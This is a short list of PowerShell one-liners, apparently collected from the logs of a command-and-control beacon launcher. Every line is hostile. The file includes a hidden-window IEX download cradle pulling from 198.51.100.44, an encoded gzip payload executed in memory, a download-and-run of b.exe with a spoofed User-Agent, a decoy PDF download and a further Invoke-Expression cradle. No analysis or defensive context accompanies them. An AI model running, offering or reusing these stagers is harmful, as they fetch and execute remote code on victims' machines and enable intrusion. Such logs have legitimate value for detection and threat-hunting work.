# One-liners as they appear in beacon launcher logs (reformatted one per line).
$h = 'http://198.51.100.44:80'

powershell -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring('http://198.51.100.44:80/a'))"

$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAJBdFWsC/wsvyixJ1fUvLSkoLVFQLy5JTE9VKMkoSk1VBwAfZHOlGgAAAA=='));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()

$wc = New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent', 'Mozilla/5.0'); $wc.DownloadFile("$h/b.exe", "$env:PUBLIC\b.exe"); Start-Process -FilePath "$env:PUBLIC\b.exe"

(New-Object System.Net.WebClient).DownloadFile("$h/readme.pdf", "$env:USERPROFILE\Downloads\readme.pdf")

Invoke-Expression (New-Object System.Net.WebClient).DownloadString("$h/c")
